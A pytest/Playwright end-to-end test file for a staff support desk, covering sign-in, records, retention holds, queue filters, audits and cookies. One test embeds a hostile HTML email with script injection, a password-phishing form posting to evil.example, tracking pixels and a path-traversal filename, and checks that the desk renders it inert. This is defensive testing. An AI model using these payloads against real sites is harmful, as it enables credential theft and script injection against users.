"""The staff's desk: from signing in with the user pool to a record that is dealt with, in each language."""

from __future__ import annotations

import datetime as dt
import time
from collections.abc import Iterator
from email.message import EmailMessage
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from kept.entry.language import language as spoken
from tests.browser.conftest import WIDE, Visitor, storage, visitor
from tests.browser.test_privacy_centre import tab_through
from tests.e2e.conftest import Site, eventually

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

HOSTILE = """<html><head><style>body { display: none } * { position: fixed; background: url(http://evil.example/x) }
</style><meta http-equiv="refresh" content="0; url=http://evil.example/"><base href="http://evil.example/"></head>
<body onload="document.title = 'taken over'"><script>document.title = 'taken over'</script>
<img src="http://evil.example/pixel.gif" onerror="document.title = 'taken over'">
<form action="http://evil.example/" method="post"><input name="password"><button>Sign in again</button></form>
<iframe src="http://evil.example/"></iframe><svg onload="document.title = 'taken over'"></svg>
<link rel="stylesheet" href="http://evil.example/x.css"><a href="javascript:document.title='taken over'">Click me</a>
<p>Where is my parcel?</p></body></html>"""


STAFF = ("__Host-kept-staff", "Strict", True, True)


def sign_in(visit: Visitor, site: Site) -> None:
    """Through the user pool's own page, as a person does."""
    visit.goto("/desk")
    visit.page.wait_for_url(f"**/desk/{visit.language}/sign-in")
    visit.check("desk-sign-in")
    visit.page.click("main form button")
    (cookie,) = visit.cookies()
    assert (cookie["name"], cookie["sameSite"]) == ("__Host-kept-sign-in", "Lax")
    assert cookie["expires"] - time.time() <= 300
    visit.page.fill("#username", site.stack.staff_name)
    visit.page.fill("#password", site.stack.staff_password)
    visit.page.click("button[type=submit]")
    visit.page.wait_for_url("**/desk/callback**")
    visit.complaints.clear()  # what the user pool's page says is not ours
    visit.cookie = STAFF[0]
    visit.check("desk-signed-in")
    (cookie,) = visit.cookies()
    assert (cookie["name"], cookie["sameSite"], cookie["httpOnly"], cookie["secure"]) == STAFF
    visit.page.click("main a.button")
    visit.page.wait_for_url(f"**/desk/{visit.language}")


@pytest.fixture(scope="session")
def signed_in(chromium: Browser, site: Site) -> Any:
    """The cookies of a member of staff who has signed in."""
    with visitor(chromium, site.stack.api, hosts=storage(site)) as seen:
        sign_in(seen, site)
        return seen.context.storage_state()


@pytest.fixture
def desk(chromium: Browser, site: Site, signed_in: Any, way: dict[str, Any]) -> Iterator[Visitor]:
    """A member of staff at work, in each of the ways: from here on no request goes to the user pool."""
    with visitor(chromium, site.stack.api, state=signed_in, cookie=STAFF[0], **way) as seen:
        yield seen


def contact(site: Site, **more: object) -> str:
    """A message in the queue; its reference."""
    body = {"email": f"ann-{time.time_ns()}@example.com", "name": "Ann أن", "message": "Where is my parcel?"} | more
    return str(site.request("POST", "/contacts", body).json["reference"])


def open_record(desk: Visitor, reference: str) -> None:
    desk.goto(f"/desk/{desk.language}/records/{reference}")


def submit(desk: Visitor, form: str) -> None:
    """Press a form's button, and wait for the page that answers."""
    with desk.page.expect_navigation():
        desk.page.click(f"form[action$='/{form}'] button")


@pytest.mark.promise("review-then-discard")
@pytest.mark.promise("security-measures")
def test_a_record_is_opened_noted_changed_and_reviewed(desk: Visitor, site: Site) -> None:
    reference, page = contact(site), desk.page
    desk.goto(f"/desk/{desk.language}")
    desk.check("desk-queue")
    open_record(desk, reference)
    desk.check("desk-record")
    page.fill("#note", "Called the courier.\n<b>Not bold</b>")
    submit(desk, "notes")
    expect(page.locator(".notes")).to_contain_text("<b>Not bold</b>")
    page.select_option("#kind", "complaint")
    submit(desk, "kind")
    expect(page.locator(".facts")).to_contain_text(spoken(desk.language).translate("complaint"))
    page.fill("#outcome", "Sent a new parcel.")
    submit(desk, "review")
    expect(page.locator(".facts")).to_contain_text("Sent a new parcel.")
    assert page.locator("form[action$='/review']").count() == 0
    desk.check("desk-record-reviewed")

    record = site.request("GET", f"/reviews/{reference}", staff=True).json
    assert (record["kind"], record["status"], record["outcome"]) == ("complaint", "reviewed", "Sent a new parcel.")
    assert record["answer_by"] > record["received_at"]
    assert len(record["openings"]) == 5, "four looks in the browser and this one"
    assert {opening["by"] for opening in record["openings"][:4]} == {note["by"] for note in record["notes"]}


@pytest.mark.promise("access-on-request")
@pytest.mark.promise("review-then-discard")
def test_a_call_becomes_a_request_that_is_answered_later_and_kept_as_a_law_asks(desk: Visitor, site: Site) -> None:
    page = desk.page
    desk.goto(f"/desk/{desk.language}/call")
    desk.check("desk-call")
    page.fill("#email", "caller@invalid")
    page.select_option("#kind", "request")
    page.fill("#text", "Wants to know what we hold.")
    submit(desk, "call")
    desk.complaints.clear()  # the browser says that the answer was a 422
    desk.check("desk-call-refused")
    assert page.input_value("#text") == "Wants to know what we hold."
    assert page.input_value("#kind") == "request"
    page.fill("#email", f"caller-{time.time_ns()}@example.com")
    submit(desk, "call")
    page.wait_for_url("**/records/**")
    expect(page.locator(".letter")).to_have_text("Wants to know what we hold.")
    reference = page.url.rpartition("/")[2]
    before = site.request("GET", f"/reviews/{reference}", staff=True).json

    page.fill("#extension-reason", "The archive is slow.")
    submit(desk, "extension")
    expect(page.locator(".facts")).to_contain_text("The archive is slow.")
    assert page.locator("form[action$='/extension']").count() == 0, "it can be extended once"

    page.evaluate("document.getElementById('until').min = ''")  # what the browser lets pass, the server does not
    page.fill("#hold-reason", "Tax law")
    page.fill("#until", "2020-01-01")
    submit(desk, "hold")
    desk.complaints.clear()
    desk.check("desk-record-refused")
    assert (page.input_value("#hold-reason"), page.input_value("#until")) == ("Tax law", "2020-01-01")
    until = dt.datetime.now(dt.UTC).date() + dt.timedelta(days=200)
    page.fill("#until", until.isoformat())
    submit(desk, "hold")
    desk.check("desk-record-held")
    held = site.request("GET", f"/reviews/{reference}", staff=True).json
    assert held["hold"]["until"] == f"{until + dt.timedelta(days=1)}T00:00:00Z"
    assert held["discard_by"] == held["hold"]["until"]
    assert held["days_left"] in {before["days_left"] + 60, before["days_left"] + 59}
    submit(desk, "hold/end")
    after = site.request("GET", f"/reviews/{reference}", staff=True).json
    assert "hold" not in after
    assert after["discard_by"] < held["discard_by"]

    desk.goto(f"/desk/{desk.language}?kind=request")
    expect(page.locator(".queue")).to_contain_text(spoken(desk.language).number(after["days_left"]))


def test_the_queue_is_looked_through_by_kind_status_deadline_intent_and_reason(desk: Visitor, site: Site) -> None:
    sender = f"grace-{time.time_ns()}@example.org"
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = sender, "support@expandcart.com", "Hello"
    mail.set_content("Please do not email me again.")
    site.send(mail.as_bytes(), sender)
    eventually(lambda: site.records_of(sender), "the mail became no record")
    complainer = f"carl-{time.time_ns()}@example.org"
    site.request("POST", "/complaints", {"email": complainer, "message": "You broke a promise."})
    table = desk.page.locator(".queue")

    def look(**chosen: str) -> None:
        desk.goto(f"/desk/{desk.language}")
        for name, value in chosen.items():
            if name == "reason":
                desk.page.fill("#reason", value)
            else:
                desk.page.select_option(f"#{name}", value)
        desk.page.click(".filters button")
        desk.page.wait_for_url("**reason=**")

    look(intent="opt_out", reason="not email me")
    expect(table).to_contain_text(sender)
    expect(table).not_to_contain_text(complainer)
    desk.check("desk-queue-filtered")
    look(kind="complaint")
    expect(table).to_contain_text(complainer)
    expect(table).not_to_contain_text(sender)
    look(intent="opt_out", reason="no such words")
    assert table.count() == 0
    look(status="reviewed", kind="complaint", reason="")
    assert complainer not in desk.page.inner_text("main")
    look(due="overdue")
    assert complainer not in desk.page.inner_text("main"), "it is due in two weeks"


@pytest.mark.promise("security-measures")
@pytest.mark.promise("no-ad-partners")
def test_a_hostile_mail_is_inert_and_its_attachment_is_only_ever_saved(desk: Visitor, site: Site) -> None:
    sender = f"mallory-{time.time_ns()}@example.net"
    mail = EmailMessage()
    mail["From"], mail["To"] = sender, "support@expandcart.com"
    mail["Subject"] = "<script>document.title='taken over'</script>"
    mail.set_content(HOSTILE, subtype="html")
    mail.add_attachment(HOSTILE.encode(), "text", "html", filename="../invoice<b>.html")
    site.send(mail.as_bytes(), sender)
    (record,) = eventually(lambda: site.records_of(sender), "the mail became no record")
    reference, page = record["reference"]["S"], desk.page
    open_record(desk, reference)
    assert "Where is my parcel?" in page.inner_text(".letter")
    assert page.locator(".letter *").count() == 0, "the mail brought elements of its own"
    assert page.locator("script, style, iframe, img, base, object, meta[http-equiv]").count() == 0
    assert page.locator("form[action*='evil'], [style], [onload], [onerror], a[href^='javascript']").count() == 0
    assert page.title().startswith(reference), "the mail's script ran"
    assert page.locator("h1").is_visible(), "the mail's style hides the page"
    desk.check("desk-hostile-mail")
    assert not [host for host in desk.hosts if "evil" in host]
    with page.expect_download() as saved:
        page.click("a[href$='/files/0']")
    assert saved.value.suggested_filename == "_invoice_b_.html"
    assert saved.value.path().read_bytes().strip() == HOSTILE.encode().strip()
    with page.expect_download() as saved:
        page.click("a[href$='/files/mail']")
    assert saved.value.suggested_filename.endswith(".eml")
    answer = desk.context.request.get(f"{page.url}/files/0")
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"].startswith("attachment;")


@pytest.mark.promise("phone-for-orders")
def test_the_gate_is_asked_by_hand_and_answers_with_its_promise(desk: Visitor, site: Site) -> None:
    number, order = "+20 11 1400 0433", f"A-{time.time_ns()}"
    placed = {"email": "ada@example.org", "phone": number, "placed_online": True}
    placed_at = {"placed_at": time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(time.time() - 60))}
    assert site.request("PUT", f"/orders/{order}", placed | placed_at, service=True).status == 200
    desk.goto(f"/desk/{desk.language}/permission")
    for about, decision in ((order, "allowed"), ("another", "refused")):
        desk.page.fill("#address", number)
        desk.page.fill("#order_id", about)
        submit(desk, "permission")
        expect(desk.page.locator(".answer")).to_have_class(f"answer {decision}")
        desk.check(f"desk-permission-{decision}")
        assert "1400" not in desk.page.url


@pytest.mark.promise("review-then-discard")
def test_the_audits_are_a_chart_and_a_table_that_lead_to_each_nights_report(desk: Visitor, audited: Any) -> None:
    page = desk.page
    desk.goto(f"/desk/{desk.language}")
    page.click(f"nav.desk a[href='/desk/{desk.language}/audits']")
    page.wait_for_url("**/audits")
    desk.check("desk-audits")
    assert page.locator("svg[role=img]").get_attribute("aria-label")
    row = page.locator(".nights tbody tr").first
    expect(row.locator("td").nth(2)).to_have_text(spoken(desk.language).number(audited["overdue"]["commitments"]))
    row.locator("a").click()
    page.wait_for_url(f"**/audits/{audited['day']}")
    expect(page.locator("h1")).to_contain_text(spoken(desk.language).day(dt.date.fromisoformat(audited["day"])))
    desk.check("desk-audit")


@pytest.mark.promise("login-cookies-only")
def test_signing_in_sets_one_cookie_and_signing_out_leaves_none_and_no_way_in(
    chromium: Browser, site: Site, way: dict[str, Any]
) -> None:
    with visitor(chromium, site.stack.api, hosts=storage(site), **way) as desk:
        sign_in(desk, site)
        desk.page.click("nav.desk form button")
        desk.page.wait_for_url(f"**/desk/{desk.language}/sign-in")
        assert desk.cookies() == []
        desk.goto(f"/desk/{desk.language}")
        assert desk.page.inner_text("h1") == spoken(desk.language).translate("Please sign in")
        desk.page.click("main a")
        expect(desk.page.locator("main form[action='/desk/sign-in']")).to_have_count(1)
        desk.complaints.clear()  # the browser says that the answer was a 401


def test_the_desk_is_reached_by_keyboard_with_visible_focus(chromium: Browser, site: Site, signed_in: Any) -> None:
    with visitor(chromium, site.stack.api, size=WIDE, state=signed_in) as desk:
        open_record(desk, contact(site))
        reached = tab_through(desk)
        for wanted in ("#main", "/desk/en/audits", "note", "kind", "outcome", "hold-reason", "until"):
            assert wanted in reached


@pytest.mark.promise("security-measures")
def test_another_sites_page_can_do_nothing_with_a_members_cookie(site: Site) -> None:
    for headers in ({"Origin": "https://evil.example"}, {"Origin": "null", "Sec-Fetch-Site": "cross-site"}, {}):
        answer = site.request("POST", "/desk/en/call", {}, headers=headers)
        assert answer.status == 403
